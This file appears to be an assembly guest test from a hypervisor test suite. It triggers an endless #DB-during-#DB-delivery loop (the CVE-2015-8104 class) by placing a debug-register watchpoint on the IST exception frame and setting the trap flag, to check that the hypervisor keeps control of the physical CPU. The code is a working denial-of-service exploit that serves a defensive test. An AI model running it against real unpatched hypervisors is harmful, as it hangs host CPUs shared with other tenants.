; guest/hostile_db_loop.asm - a #DB raised while the CPU delivers #DB
; (the CVE-2015-8104 class): without a VM exit per #DB the CPU never
; finishes delivering and never runs another instruction, so hv never gets
; the pCPU back.
;
; The #DB gate uses IST1 (a TSS of our own), so every delivery pushes its
; frame at the same place; DR0 watches that place for writes (DR7 L0,
; RW0 = write, LEN0 = 8 bytes). Then TF is set: the single-step #DB's
; delivery writes the watched qword, which raises another #DB as soon as
; that delivery ends, whose delivery writes it again, and so on.
; The VM must end by its run limit (result limit) while the VM beside it
; finishes; with hv intercepting #DB each round trip is a VM exit.
; If the handler ever runs (an emulator that does not model a breakpoint
; hit during delivery), the guest prints so and exits 7.
;
; Config: mode = long, vcpus = 1, limit_ms, on the same pCPU as another VM.

bits 64
default rel
%include "hv.inc"
org HV_LONG_ENTRY

start:
        ; TSS descriptor (16 bytes, SDM Vol. 3A 8.2.3) at GDT selector 0x18
        lea rax, [tss]
        mov word [gdt_tss], 103                 ; limit
        mov [gdt_tss + 2], ax                   ; base 15:0
        shr rax, 16
        mov [gdt_tss + 4], al                   ; base 23:16
        mov byte [gdt_tss + 5], 0x89            ; P, available 64-bit TSS
        mov [gdt_tss + 7], ah                   ; base 31:24
        shr rax, 16
        mov [gdt_tss + 8], eax                  ; base 63:32
        lea rax, [ist_top]
        mov [tss + 0x24], rax                   ; IST1
        lgdt [gdtr]
        mov ax, 0x18
        ltr ax
        ; IDT: vector 1 -> db_handler via IST1; everything else -> other
        lea rdi, [idt]
        lea rax, [other]
        mov ecx, 32
.g:     call gate
        add rdi, 16
        dec ecx
        jnz .g
        lea rdi, [idt + 16]
        lea rax, [db_handler]
        call gate
        mov byte [idt + 16 + 4], 1              ; IST1
        lidt [idtr]
        ; DR0 = the SS slot of the #DB frame on the IST stack
        lea rax, [ist_top - 8]
        mov dr0, rax
        mov rax, 0x90401                        ; L0, RW0 = 01 (writes), LEN0 = 10 (8 bytes)
        mov dr7, rax
        HV_PRINTLN 'setting TF: #DB inside #DB delivery from here on'
        pushfq
        or qword [rsp], 0x100
        popfq
        nop
        nop
        HV_PRINTLN 'FAIL: still running after the single step'
        HV_EXIT 8

gate:                                           ; RDI = gate, RAX = handler
        mov rdx, rax
        mov [rdi], dx
        mov word [rdi + 2], HV_SEL_CODE
        mov word [rdi + 4], 0x8E00
        shr rdx, 16
        mov [rdi + 6], dx
        shr rdx, 16
        mov [rdi + 8], rdx
        ret

db_handler:
        xor eax, eax
        mov dr7, rax
        HV_PRINTLN 'the #DB handler ran: this CPU does not raise #DB during #DB delivery'
        HV_EXIT 7
other:
        HV_PRINTLN 'unexpected exception'
        HV_EXIT 9

        align 16
gdt:    dq 0
        dq 0x00AF9A000000FFFF                   ; 0x08 code
        dq 0x00CF92000000FFFF                   ; 0x10 data
gdt_tss: dq 0, 0                                ; 0x18 TSS
gdt_end:
gdtr:   dw gdt_end - gdt - 1
        dq gdt
        align 16
idt:    times 32 dq 0, 0
idtr:   dw 32 * 16 - 1
        dq idt
        align 16
tss:    times 104 db 0
        align 16
        times 512 db 0
ist_top:
